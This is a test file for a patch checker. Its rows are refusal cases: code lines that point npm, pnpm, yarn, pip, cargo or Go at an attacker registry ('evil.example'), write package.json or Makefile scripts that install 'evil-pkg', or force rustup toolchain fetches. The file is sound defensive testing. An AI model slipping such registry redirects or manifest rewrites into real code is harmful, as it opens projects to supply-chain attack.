import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { setsManagerConfiguration } from '../../shared/analysis/patch.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
import { closedRows, type FindingRow, describeFindings, expectAccepted, patchAdding } from '../support/patches.js';

/**
 * Our own review of the patch check after session 43 (rows written in session 44): patches the check accepted
 * although an allowed call (`pnpm run`, `cargo build`) would fetch code because of what else the patch changes, or a
 * command string hides its fetching verb past the options the reading skipped. Each row asserts the refusal.
 */
const PY = (call: string) => `import subprocess\nsubprocess.run(${call})`;
const SYSTEM = (command: string) => `import os\nos.system('${command}')`;
const CONFIGURED = (path: string): FindingRow => [path, 'x = 1'];

// R1 (high): package-manager configuration beside an allowed `pnpm run`: pnpm's verify-deps-before-run installs, from
// the registry the configuration names. Refused already, kept as regression rows:
const REFUSED_BEFORE: FindingRow[] = ['.npmrc', 'packages/app/.npmrc', '.yarnrc', '.yarnrc.yml', '.pnpmfile.cjs', 'pnpm-workspace.yaml', 'bunfig.toml', 'pip.conf', '.cargo/config', '.cargo/config.toml', 'package.json', 'rust-toolchain.toml'].map(CONFIGURED);
// Open: the files whose extension passed as source or as a test fixture, and the same configuration written by the
// code the patch adds, for the next step to read.
const MANAGER_CONFIGURATION: FindingRow[] = [
  CONFIGURED('.pnpmfile.mjs'),
  CONFIGURED('tests/.pnpmfile.mjs'),
  CONFIGURED('tests/fixtures/app/uv.toml'),
  CONFIGURED('tests/fixtures/app/poetry.toml'),
  CONFIGURED('tests/fixtures/app/pixi.toml'),
  ['src/check.py', "open('.npmrc', 'w').write('registry=https://evil.example/')"],
  ['src/check.js', "fs.writeFileSync('pnpm-workspace.yaml', 'verifyDepsBeforeRun: install')"],
  ['src/check.py', "Path('tests/.yarnrc.yml').write_text('npmRegistryServer: https://evil.example/')"],
];

// R2 (high): a toolchain fetched by rustup behind an allowed `cargo build`: a `+toolchain` argument, a toolchain file
// where a crate is built, rustup itself.
const TOOLCHAIN_FETCHES: FindingRow[] = [
  CONFIGURED('tests/rust-toolchain.toml'),
  CONFIGURED('tests/fixtures/crate/rust-toolchain.toml'),
  ['src/check.py', SYSTEM('cargo +nightly build')],
  ['src/check.py', SYSTEM('cargo -q +nightly-2020-01-01 test')],
  ['src/check.py', PY("'cargo +nightly build', shell=True")],
  ['src/check.py', SYSTEM('rustup toolchain install nightly')],
  ['src/check.py', SYSTEM('rustup run nightly cargo build')],
  ['src/check.py', PY("['rustup', 'run', 'nightly', 'cargo', 'build']")],
  ['src/check.rs', 'Command::new("rustup").args(["default", "nightly"]).status()?;'],
  ['src/check.py', "open('rust-toolchain.toml', 'w').write('[toolchain]')"],
];

// R3 (high): a command string's options before its verb were skipped up to three: a fourth (or a quoted value) hid it.
const OPTIONS_BEFORE_THE_VERB: FindingRow[] = [
  ['src/check.py', SYSTEM('npm --a --b --c --d install x')],
  ['src/check.py', SYSTEM('npm --prefix "a b" install x')],
  ['src/check.py', PY("'npm --a --b --c --d install x', shell=True")],
  ['src/check.py', PY("'pip -v -v -v -v install x', shell=True")],
  ['src/check.js', 'execSync(`npm --a --b --c --d install ${x}`)'],
  ['src/check.js', 'execSync(`npm --a --b --c --d exec evil`)'],
  ['src/check.js', "execSync('docker --a --b --c --d run evil/img')"],
];

// R5 (high, found on the way): a package.json or Makefile written by the added code, whose scripts the next allowed
// `npm test` or `make` runs (the files themselves are off the allow-list; writing them was not read).
const MANIFEST_WRITTEN: FindingRow[] = [
  ['src/check.js', "fs.writeFileSync('package.json', JSON.stringify({ scripts: { test: 'npm i evil-pkg && vitest' } }))"],
  ['src/check.js', "fs.writeFileSync(path.join(root, 'package.json'), data)"],
  ['src/check.js', "fs.copyFileSync('tests/fixtures/evil.json', 'package.json')"],
  ['src/check.py', "open('package.json', 'w').write(manifest)"],
  ['src/check.py', "Path('Makefile').write_text('test:\\n\\tnpm i evil-pkg')"],
  ['src/check.py', "shutil.copy('tests/fixtures/evil.json', 'package.json')"],
];

// R4 (high): the same configuration set in the environment the next allowed call inherits.
const MANAGER_ENVIRONMENT: FindingRow[] = [
  ['src/check.py', "import os\nos.environ['npm_config_registry'] = 'https://evil.example/'"],
  ['src/check.py', "import os\nos.environ.update({'npm_config_verify_deps_before_run': 'install'})"],
  ['src/check.py', "import os\nos.environ['RUSTUP_DIST_SERVER'] = 'https://evil.example'"],
  ['src/check.py', "import os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  ['src/check.js', "process.env.npm_config_registry = 'https://evil.example/';"],
  ['src/check.js', "process.env['YARN_NPM_REGISTRY_SERVER'] = 'https://evil.example/';"],
  ['src/check.rs', 'std::env::set_var("RUSTUP_TOOLCHAIN", "nightly");'],
  ['src/check.go', 'os.Setenv("GOPROXY", "https://evil.example")'],
];


// R6 (high, found on the way): a package manager told to change its own configuration, in a command string: the
// same settings as R1 and R4, written where every later call in the job reads them.
const CONFIGURED_BY_COMMAND: FindingRow[] = [
  ['src/check.py', SYSTEM('npm config set registry https://evil.example/')],
  ['src/check.py', SYSTEM('npm set registry https://evil.example/')],
  ['src/check.py', SYSTEM('pnpm config set verify-deps-before-run install')],
  ['src/check.py', SYSTEM('yarn config set npmRegistryServer https://evil.example/')],
  ['src/check.py', SYSTEM('pip config set global.index-url https://evil.example/simple')],
  ['src/check.go', 'exec.Command("sh", "-c", "go env -w GOPRIVATE=*").Run()'],
];

// R7 (high, found on the way): the same settings given as options after an allowed verb, on the command line or in
// the list (pnpm's `--config.*`, `--registry`, cargo's `--config`, which also sets a target's runner).
const CONFIGURED_AFTER_THE_VERB: FindingRow[] = [
  ['src/check.py', SYSTEM('pnpm run build --config.verify-deps-before-run=install --registry=https://evil.example/')],
  ['src/check.py', PY("'npm test --registry https://evil.example/', shell=True")],
  ['src/check.js', "execSync('cargo build --config registries.evil.index=\"https://evil.example\"')"],
  ['src/check.py', PY("['cargo', 'build', '--config', 'source.crates-io.replace-with=\"evil\"']")],
  ['src/check.py', PY("['pnpm', 'run', 'build', '--config.verify-deps-before-run=install']")],
];

describeFindings('review-43', [
  ['R1', [...closedRows(REFUSED_BEFORE), ...closedRows(MANAGER_CONFIGURATION)]],
  ['R2', closedRows(TOOLCHAIN_FETCHES)],
  ['R3', closedRows(OPTIONS_BEFORE_THE_VERB)],
  ['R4', closedRows(MANAGER_ENVIRONMENT)],
  ['R5', closedRows(MANIFEST_WRITTEN)],
  ['R6', closedRows(CONFIGURED_BY_COMMAND)],
  ['R7', closedRows(CONFIGURED_AFTER_THE_VERB)],
]);

describe('review-43 controls', () => {
  it.each([
    ['src/check.py', PY("['pnpm', 'run', 'build']")],
    ['src/check.py', SYSTEM('npm test')],
    ['src/check.py', SYSTEM('npm --silent test')],
    ['src/check.py', SYSTEM('cargo build')],
    ['src/check.py', SYSTEM('pip --version')],
    ['src/check.js', "const registry = process.env.npm_config_user_agent;"],
    ['src/check.rs', 'let dir = env!("CARGO_MANIFEST_DIR");'],
    ['tests/fixtures/app/config.toml', 'x = 1'],
    ['src/check.js', "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));"],
    ['src/check.py', "version = json.load(open('package.json'))['version']"],
    ['src/check.py', "text = open('package.json', 'r').read()"],
    ['src/check.go', 'out, err := exec.Command("go", "env", "GOPATH").Output()'],
    ['src/check.js', "const prefix = execSync('npm config get prefix').toString().trim();"],
    ['src/check.py', SYSTEM('npm run test -- --reporter=dot')],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

describe('review-43: the readings added in session 44 stay linear', () => {
  it.each([
    ['quiet options before a verb', "run('npm -q -q --silent -v -q -q -q -q -q -q -q -q "],
    ['options and toolchains after package managers', "run('npm -q --a --b cargo +x pip -v -- "],
  ] as const)('reads %s in linear time', { timeout: 120_000 }, (_, unit) => {
    const exponent = cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding('src/check.js', [text])));
    expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });

  // Read alone: in the whole check, slower readings of the same line hide a quadratic one at these sizes.
  it.each([
    ['configuration paths never closed', "'a/b/.npmrc/c/rust-toolchain/d/"],
    ['environment names run together', '-uv_'],
    ['files opened, never for writing', "open('y', "],
  ] as const)('reads %s in linear time', { timeout: 120_000 }, (_, unit) => {
    expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), setsManagerConfiguration)).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });
});
